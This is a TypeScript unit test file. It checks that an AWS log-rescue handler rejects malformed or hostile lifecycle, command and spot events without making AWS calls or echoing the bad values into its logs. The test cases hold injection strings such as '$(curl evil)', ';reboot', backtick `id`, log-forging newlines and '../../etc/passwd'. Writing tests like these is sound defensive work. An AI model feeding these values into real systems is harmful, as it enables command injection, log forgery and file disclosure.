/**
 * Proves what the handler (handlers/log-rescue/rescue.ts) does with an event it cannot use:
 * malformed or hostile input of every kind is rejected with one warn line whose reason names the
 * field (never echoing the value), makes no AWS call, counts nothing and never throws; the optional
 * fields of a lifecycle event may be absent.
 * @lane unit
 */
import { DescribeInstanceInformationCommand, SendCommandCommand } from '@aws-sdk/client-ssm';
import {
  ASG, COMMAND_ID, HOOK, commandStatusEvent, harness, instanceId, instanceInfo, invocationEvent, lifecycleEvent, spotEvent,
} from './fixtures';

describe('malformed and hostile events: logged rejection, zero AWS calls, no throw', () => {
  const big = 'a'.repeat(100 * 1024);
  const cases: Array<[string, unknown]> = [
    ['null', null],
    ['a string', 'aws.autoscaling'],
    ['an array', [lifecycleEvent()]],
    ['empty object', {}],
    ['wrong source', lifecycleEvent({}, { source: 'custom.autoscaling' })],
    ['wrong detail-type', lifecycleEvent({}, { 'detail-type': 'EC2 Instance Launch Successful' })],
    ['source with a newline (a forged log line)', lifecycleEvent({}, { source: 'aws.autoscaling\nINFO forged;reboot' })],
    ['event id with command substitution', lifecycleEvent({}, { id: '$(curl evil)' })],
    ['command status labelled as an invocation (no instance-id)', commandStatusEvent({}, { 'detail-type': 'EC2 Command Invocation Status-change Notification' })],
    ['missing detail', lifecycleEvent({}, { detail: undefined })],
    ['detail is a string', lifecycleEvent({}, { detail: 'x' })],
    ['missing instance id', lifecycleEvent({ EC2InstanceId: undefined })],
    ['instance id is a number', lifecycleEvent({ EC2InstanceId: 1234567890 })],
    ['instance id with shell metacharacters', lifecycleEvent({ EC2InstanceId: 'i-12345678;reboot' })],
    ['instance id with command substitution', lifecycleEvent({ EC2InstanceId: 'i-$(curl evil)' })],
    ['upper-case instance id', lifecycleEvent({ EC2InstanceId: 'i-1234567890ABCDEF0' })],
    ['group name with a newline', lifecycleEvent({ AutoScalingGroupName: 'web-asg\nINFO fake log line' })],
    ['group name with a colon', lifecycleEvent({ AutoScalingGroupName: 'arn:aws:autoscaling' })],
    ['hook name with $', lifecycleEvent({ LifecycleHookName: 'log-rescue$IFS' })],
    ['launching transition', lifecycleEvent({ LifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING' })],
    ['100 KB group name', lifecycleEvent({ AutoScalingGroupName: big })],
    ['100 KB metadata', lifecycleEvent({ NotificationMetadata: big })],
    ['100 KB event id', lifecycleEvent({}, { id: big })],
    ['100 KB source', lifecycleEvent({}, { source: big })],
    ['time not ISO', lifecycleEvent({}, { time: 'yesterday' })],
    ['time is an object', lifecycleEvent({}, { time: { $date: 1 } })],
    ['impossible date', lifecycleEvent({}, { time: '2026-13-45T99:99:99Z' })],
    ['resources not an array', lifecycleEvent({}, { resources: 'arn' })],
    ['100k resources', lifecycleEvent({}, { resources: new Array(100000).fill('x') })],
    ['command: 51 instances (SendCommand takes 50)', commandStatusEvent({ instances: Array.from({ length: 51 }, (_, i) => instanceId(i)) })],
    ['command: no instance', commandStatusEvent({ instances: [] })],
    ['command: one good instance ARN, one hostile', commandStatusEvent({}, { resources: ['arn:aws:ec2:us-east-1:123456789012:instance/i-1234567890abcdef0', 'arn:aws:ec2:us-east-1:123456789012:instance/i-0234567890abcdef0;halt'] })],
    ['command: resource not an instance', commandStatusEvent({}, { resources: ['arn:aws:ec2:us-east-1:123456789012:volume/vol-1234567890abcdef0'] })],
    ['command: hostile instance ARN', commandStatusEvent({}, { resources: ['arn:aws:ec2:us-east-1:123456789012:instance/i-1234567890abcdef0`id`'] })],
    ['command: parameters not an object', commandStatusEvent({ parameters: ['asgName'] as any })],
    ['command: parameter value not an array', commandStatusEvent({ parameters: { asgName: ASG } })],
    ['command: 100 KB parameter', commandStatusEvent({ parameters: { asgName: [big], hookName: [HOOK], trigger: ['lifecycle'], eventTime: ['20261120T223000Z'] } })],
    ['command: unknown status', commandStatusEvent({ status: 'Exploded' })],
    ['command: status is a number', commandStatusEvent({ status: 1 as any })],
    ['invocation: instance id with command substitution', invocationEvent({ instance: 'i-$(curl evil)' })],
    ['invocation: instance id missing', invocationEvent({}, { detail: { ...invocationEvent().detail, 'instance-id': undefined } })],
    ['invocation: command id not a UUID', invocationEvent({ commandId: '../../etc/passwd' })],
    ['invocation: document name with a space', invocationEvent({ document: 'logrescue rescue' })],
    ['invocation: unknown status', invocationEvent({ status: 'Exploded' })],
    ['invocation: requested time not ISO', invocationEvent({}, { detail: { ...invocationEvent().detail, 'requested-date-time': 'now' } })],
    ['invocation: 100 KB document name', invocationEvent({ document: big })],
    ['spot: unknown action', spotEvent({ 'instance-action': 'reboot' })],
    ['spot: instance id with spaces', spotEvent({ 'instance-id': 'i-12345678 ; halt' })],
  ];

  test.each(cases)('%s', async (_name, event) => {
    const h = harness();
    const result = await h.handler(event);
    expect(result).toEqual({ action: 'rejected', reason: expect.any(String) });
    expect(h.awsCalls()).toBe(0);
    expect(h.metrics()).toEqual([]);
    const logs = h.logs();
    expect(logs).toEqual([expect.objectContaining({ level: 'warn', msg: 'event rejected', reason: (result as { reason: string }).reason })]);
    // A rejected value is never echoed into the logs: not a long one, and no hostile character of a short one.
    expect(JSON.stringify(logs).length).toBeLessThan(1000);
    for (const value of Object.values(logs[0])) expect(String(value)).toMatch(/^[\w .:/[\],-]*$/);
  });

  test('rejection reasons name the field', async () => {
    const h = harness();
    expect(await h.handler(lifecycleEvent({ EC2InstanceId: 'i-12345678;reboot' }))).toEqual({ action: 'rejected', reason: 'detail.EC2InstanceId: not an instance id' });
    expect(await h.handler(lifecycleEvent({ AutoScalingGroupName: big }))).toEqual({ action: 'rejected', reason: 'detail.AutoScalingGroupName: length 102400 outside 1..256' });
    expect(await h.handler(lifecycleEvent({}, { source: 'aws.ec2' }))).toEqual({ action: 'rejected', reason: 'source/detail-type: not an event this handler takes' });
    expect(h.logs()[2]).toEqual({ level: 'warn', msg: 'event rejected', reason: 'source/detail-type: not an event this handler takes', eventId: '468fa4f9-3f2f-4b6a-bbd1-2d0b6a2e1c9f', source: 'aws.ec2', detailType: 'EC2 Instance-terminate Lifecycle Action' });
  });

  test('a throwing getter is a rejection too', async () => {
    const h = harness();
    const event = lifecycleEvent();
    Object.defineProperty(event.detail, 'EC2InstanceId', { get() { throw new Error('boom'); }, enumerable: true });
    expect(await h.handler(event)).toEqual({ action: 'rejected', reason: 'event: could not be read' });
    expect(h.awsCalls()).toBe(0);
    expect(h.logs()).toEqual([expect.objectContaining({ level: 'warn', msg: 'event rejected', reason: 'event: could not be read' })]);
  });

  test('optional lifecycle fields may be absent (older events)', async () => {
    const h = harness();
    h.ssm.on(DescribeInstanceInformationCommand).resolves(instanceInfo('Online'));
    h.ssm.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    const event = lifecycleEvent();
    delete event.detail.NotificationMetadata;
    delete event.detail.Origin;
    delete event.detail.Destination;
    expect(await h.handler(event)).toMatchObject({ action: 'command-sent' });
  });
});
